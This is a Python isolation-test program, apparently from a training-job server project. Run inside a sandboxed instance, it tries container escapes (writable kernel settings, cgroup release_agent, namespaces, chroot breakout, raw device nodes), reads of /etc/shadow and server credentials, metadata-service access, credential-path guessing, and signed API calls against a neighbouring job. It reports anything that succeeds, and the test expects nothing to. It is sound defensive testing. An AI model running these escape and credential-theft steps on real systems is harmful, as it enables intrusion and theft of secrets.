# SPDX-License-Identifier: Apache-2.0
"""A user's program that attacks: runs inside an instance and tries all it can against its neighbours, the
server and the machine. It prints one JSON object: what it tried, and what it got. Hyperparameters say where
the others are; the test says that it must have got nothing. Standard library only."""
import ctypes
import datetime
import errno
import glob
import hashlib
import hmac
import itertools
import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request

GIVEN = json.loads(os.environ["SM_HPS"])
libc = ctypes.CDLL(None, use_errno=True)
tried, got = [], {}


def attempt(name):
    """The function is run; what it returns, unless empty, is what it got. Errors are the defence."""
    def run(function):
        tried.append(name)
        try:
            found = function()
        except (OSError, ValueError, subprocess.SubprocessError):
            found = None
        if found:
            got[name] = str(found)[:300]
    return run


def call(function, *arguments):
    """The errno of a libc call; 0 when it worked."""
    return ctypes.get_errno() or errno.EPERM if getattr(libc, function)(*arguments) < 0 else 0


def opens(path):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        return True
    except OSError:
        return False


def words_of(path):
    """The command line of a process, which may have ended."""
    try:
        return set(open(path, "rb").read().split(b"\0"))
    except OSError:
        return set()


def reach(host, port, seconds=0.5):
    with socket.create_connection((host, int(port)), seconds):
        return f"connected to {host}:{port}"


def fetch(url, headers=None, data=None):
    """(status, body): an error's as well."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers or {}), timeout=2) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


# --- The server's home and the machine's secrets ---

for place in (GIVEN["home"], "/var/lib/trainyard", "/root", "/home", "/run", "/etc/ssh", "/etc/ssl/private"):
    @attempt(f"files below {place}")
    def _():
        mine = (os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix), "/run/trainyard/ca")
        paths = (os.path.join(d, f) for d, _, files in os.walk(place) for f in files)
        return list(itertools.islice((p for p in paths if not os.path.realpath(p).startswith(mine)), 5))

for place in ("credentials", "server.json", "trainyard.db", "config.yaml", "objects", "run"):
    @attempt(f"the server's {place}")
    def _():
        return os.stat(os.path.join(GIVEN["home"], place))

for place in ("/etc/shadow", "/etc/gshadow"):
    @attempt(f"read {place}")
    def _():
        return open(place, "rb").read(10)

for place in ("/usr/bin/planted", "/etc/planted", "/opt/planted", "/lib/planted", "/boot/planted", "/var/planted"):
    @attempt(f"write {place}")
    def _():
        with open(place, "w") as file:
            return file.write("x")


# --- /proc and /sys ---

@attempt("processes of others")
def _():
    mine = os.stat("/proc/self/ns/pid").st_ino
    return [pid for pid in filter(str.isdigit, os.listdir("/proc")) if os.stat(f"/proc/{pid}/ns/pid").st_ino != mine]


@attempt("command lines of servers and supervisors")
def _():
    return [path for path in glob.glob("/proc/[0-9]*/cmdline") if {b"server", b"instance", b"--bind"} & words_of(path)]


@attempt("the host's root through /proc/1/root")
def _():
    return os.path.exists("/proc/1/root" + GIVEN["home"] + "/credentials")


@attempt("descriptors of pid 1 that lead outside")
def _():
    leads = [os.readlink(path) for path in glob.glob("/proc/1/fd/*")]
    return [to for to in leads if to.startswith(GIVEN["home"]) and "/run/" not in to]


# To have opened it is enough: what a write does would be real.
for place in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname",
              "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/modprobe", "/proc/irq/default_smp_affinity",
              "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled"):
    @attempt(f"open {place} for writing")
    def _():
        return os.open(place, os.O_WRONLY) and "opened"


@attempt("any setting of the kernel that opens for writing")
def _():
    paths = (os.path.join(d, f) for top in ("/proc/sys", "/proc/irq", "/sys") for d, _, files in os.walk(top) for f in files)
    return list(itertools.islice((path for path in paths if opens(path)), 5))


for place in ("/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/loop-control", "/dev/fuse", "/dev/net/tun", "/dev/kvm"):
    @attempt(f"open {place}")
    def _():
        return os.open(place, os.O_RDONLY) and "opened"


@attempt("a control group to write into")
def _():
    return [d for d, _, files in os.walk("/sys/fs/cgroup") for f in files
            if f in ("cgroup.procs", "release_agent", "notify_on_release", "devices.allow") and opens(os.path.join(d, f))][:3]


# --- Rights ---

CLONE = {"mount": 0x20000, "network": 0x40000000, "pid": 0x20000000}
for name, flag in CLONE.items():
    @attempt(f"a new {name} namespace")
    def _():
        pid = os.fork()
        if pid == 0:
            os._exit(1 if call("unshare", flag) else 0)
        return "made" if os.waitpid(pid, 0)[1] == 0 else None


USER, CGROUP = 0x10000000, 0x2000000
CALLS = {"x86_64": {"add_key": 248, "keyctl": 250, "clone": 56}, "aarch64": {"add_key": 217, "keyctl": 219, "clone": 220}}[os.uname().machine]
CLONE3 = 435


def in_child(function):
    """What it returned, from a process of its own: it may change its namespaces. Nothing after an error."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(theirs, (function() or "").encode())
        finally:
            os._exit(0)
    os.close(theirs)
    os.waitpid(pid, 0)
    with os.fdopen(ours) as pipe:
        return pipe.read()


def group_to_write_to():
    """After a namespace was made: whether one's own limits could be lifted in it, too."""
    for kind, options in (("cgroup", b"memory"), ("cgroup2", None)):
        if not call("mount", b"none", b"/tmp", kind.encode(), 0, options):
            return "mounted " + kind
    return "made"


for name, flags in {"a user namespace": USER, "a user namespace with mounts": USER | CLONE["mount"],
                    "a user namespace with control groups": USER | CLONE["mount"] | CGROUP}.items():
    @attempt(f"{name}, by unshare")
    def _():
        return in_child(lambda: None if call("unshare", flags) else group_to_write_to())

    @attempt(f"{name}, by clone")
    def _():
        pid = libc.syscall(ctypes.c_long(CALLS["clone"]), ctypes.c_ulong(flags | 17), None, None, None, None)
        if pid == 0:
            os._exit(0)
        return pid > 0 and os.waitpid(pid, 0) and "made"

    @attempt(f"{name}, by clone3")
    def _():
        given = (ctypes.c_uint64 * 8)(flags, 0, 0, 0, 17)
        pid = libc.syscall(ctypes.c_long(CLONE3), given, ctypes.c_size_t(64))
        if pid == 0:
            os._exit(0)
        return pid > 0 and os.waitpid(pid, 0) and "made"


@attempt("the key of the session's keyring")
def _():
    return libc.syscall(ctypes.c_long(CALLS["keyctl"]), 0, ctypes.c_long(-3), 1) > 0 and "found"  # KEYCTL_GET_KEYRING_ID


@attempt("a key of one's own")
def _():
    # -2: the process's keyring, which ends with it
    return libc.syscall(ctypes.c_long(CALLS["add_key"]), b"user", b"hostile", b"x", ctypes.c_size_t(1), ctypes.c_long(-2)) > 0 and "added"


@attempt("mount")
def _():
    os.makedirs("/tmp/m", exist_ok=True)
    return not call("mount", b"none", b"/tmp/m", b"tmpfs", 0, None) and "mounted"


@attempt("make the root writable")
def _():
    return not call("mount", b"none", b"/", None, 32 | 4096, None) and "remounted"  # MS_REMOUNT | MS_BIND


for name, kind, major, minor in (("disk", 0o060000, 254, 0), ("memory", 0o020000, 1, 1)):
    @attempt(f"make a device node of the {name}")
    def _():
        os.mknod(f"/tmp/{name}", kind | 0o600, os.makedev(major, minor))
        return os.open(f"/tmp/{name}", os.O_RDONLY) and "opened"


@attempt("join the namespaces of pid 1")
def _():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    return not call("setns", fd, 0) and os.stat("/proc/self/ns/net").st_ino != os.stat("/proc/1/ns/net").st_ino


@attempt("load a module")
def _():
    return not call("syscall", 175, b"x", 1, b"") and "loaded"


@attempt("set the clock")
def _():
    return not call("clock_settime", 0, (ctypes.c_long * 2)(int(time.time()), 0)) and "set"


for name, family, kind in (("packet", socket.AF_PACKET, socket.SOCK_RAW), ("raw", socket.AF_INET, socket.SOCK_RAW)):
    @attempt(f"a {name} socket")
    def _():
        return socket.socket(family, kind, 1 if name == "raw" else 3)


@attempt("change an address of the interface")
def _():
    return subprocess.run(["ip", "address", "add", "10.99.99.99/24", "dev", "eth0"], capture_output=True, timeout=5).returncode == 0


@attempt("a chroot that leads out")
def _():
    pid = os.fork()
    if pid == 0:
        try:
            os.makedirs("/tmp/jail", exist_ok=True)
            top = os.open("/", os.O_RDONLY)
            os.chroot("/tmp/jail")
            os.fchdir(top)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            os._exit(0 if os.path.exists(GIVEN["home"] + "/credentials") else 1)
        except OSError:
            os._exit(1)
    return "out" if os.waitpid(pid, 0)[1] == 0 else None


# --- The other job ---

@attempt("shared memory of the other job")
def _():
    return glob.glob("/dev/shm/*victim*") or glob.glob("/tmp/*victim*") or glob.glob("/var/tmp/*victim*")


@attempt("System V shared memory of the other job")
def _():
    return not call("shmget", 0x5943, 64, 0) and "attached"


@attempt("an abstract socket of the other job")
def _():
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\0yard-victim")
        return "connected"


for port in ("5555", "22", "80"):
    @attempt(f"port {port} of the other job")
    def _():
        return reach(GIVEN["victim_address"], port)


@attempt("the server by its own address")
def _():
    return reach("127.0.0.1", GIVEN["server_port"])


for address in GIVEN["host_addresses"]:
    @attempt(f"the server by the host's address {address}")
    def _():
        return reach(address, GIVEN["server_port"])

if GIVEN["isolated"]:  # without isolation a job reaches what any neighbour of the machine reaches
    for address in GIVEN["host_addresses"]:
        @attempt(f"a service of the host at {address}")
        def _():
            return reach(address, GIVEN["bystander_port"])

    @attempt("the gateway of the other job")
    def _():
        return reach(GIVEN["victim_gateway"], GIVEN["victim_gateway_port"])


@attempt("the metadata of a cloud machine")
def _():
    return reach("169.254.169.254", 80)


# --- Credentials and the server, with what a job has; an isolated one has nothing ---

own = os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/none")
server = os.environ.get("AWS_ENDPOINT_URL", f"http://{GIVEN['victim_gateway']}:{GIVEN['victim_gateway_port']}")
ENDPOINT = "http://169.254.170.2"


def keys():
    return json.loads(fetch(ENDPOINT + own)[1])


def signed(service, target, body):
    """(status, answer) of a JSON call with the role's own keys."""
    mine, now = keys(), datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    scope = f"{now[:8]}/us-east-1/{service}/aws4_request"
    headers = {"content-type": "application/x-amz-json-1.1", "host": urllib.parse.urlsplit(server).netloc, "x-amz-date": now,
               "x-amz-security-token": mine["Token"], "x-amz-target": target}
    names = ";".join(headers)
    canonical = "POST\n/\n\n" + "".join(f"{k}:{v}\n" for k, v in headers.items()) + f"\n{names}\n{hashlib.sha256(body).hexdigest()}"
    key = b"AWS4" + mine["SecretAccessKey"].encode()
    for part in scope.split("/"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    text = f"AWS4-HMAC-SHA256\n{now}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
    signature = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = f"AWS4-HMAC-SHA256 Credential={mine['AccessKeyId']}/{scope}, SignedHeaders={names}, Signature={signature}"
    return fetch(server + "/", headers, body)


for path in ("/", "/v2/credentials", "/v2/credentials/", own[:-1], own + "/", own + "x", own.upper(), "/" + own, "/x/.." + own,
             own + "/../", own + "?", own + "%00", own[:-1] + "%" + own[-1:].encode().hex()):
    @attempt(f"credentials by a guess like {path.replace(own, 'OWN')[:24]}")
    def _():
        status, body = fetch(ENDPOINT + path)
        return body if status == 200 and path.rstrip("?") != own else None


@attempt("credentials of the other job")
def _():
    status, body = fetch(f"http://{GIVEN['victim_address']}{GIVEN['victim_path']}")
    return body if status == 200 else None


@attempt("credentials of the other job by its path here")
def _():
    status, body = fetch(ENDPOINT + GIVEN["victim_path"])
    return body if status == 200 else None


for operation in ("StopTrainingJob", "DescribeTrainingJob", "DeleteTrainingJob", "UpdateTrainingJob"):
    @attempt(f"{operation} of the other job with the role's keys")
    def _():
        status, body = signed("sagemaker", f"SageMaker.{operation}", json.dumps({"TrainingJobName": GIVEN["victim"]}).encode())
        assert status == 200 or b"AccessDenied" in body, body
        return body if status == 200 else None


@attempt("a signal for the other job with the role's keys")
def _():
    asked = json.dumps({"TrainingJobName": GIVEN["victim"], "Signal": "USR1"}).encode()
    status, body = signed("trainyard", "Trainyard.SignalTrainingJob", asked)
    assert status == 200 or b"AccessDenied" in body, body
    return body if status == 200 else None


@attempt("the logs of the other job with the role's keys")
def _():
    status, body = signed("logs", "Logs_20140328.FilterLogEvents", b'{"logGroupName": "/aws/sagemaker/TrainingJobs"}')
    assert status == 200 or b"AccessDenied" in body, body
    return body if status == 200 else None


for path in ("assignment", "credentials", "reports", "commands"):
    @attempt(f"the instances' protocol, {path}, without their token")
    def _():
        mine = keys()
        claims = [("1", f"Bearer {token}") for token in ("", "x", mine["Token"], mine["SecretAccessKey"], own.rsplit("/", 1)[-1])]
        claims += [("3", f"Yard-HMAC-SHA256 Id={'0' * 32}, Run=, Number=1, Proof={proof * 64}") for proof in ("", "0")]
        for version, claim in claims:
            headers = {"Authorization": claim, "Yard-Protocol": version}
            status, body = fetch(f"{server}/yard/v1/{path}", headers, b"{}" if path == "reports" else None)
            if status == 200:
                return body
        return None


@attempt("tokens in files")
def _():
    return [p for top in ("/opt/ml", "/tmp", "/run") for p in glob.glob(top + "/**/token", recursive=True)]


print(json.dumps({"tried": tried, "got": got}), flush=True)
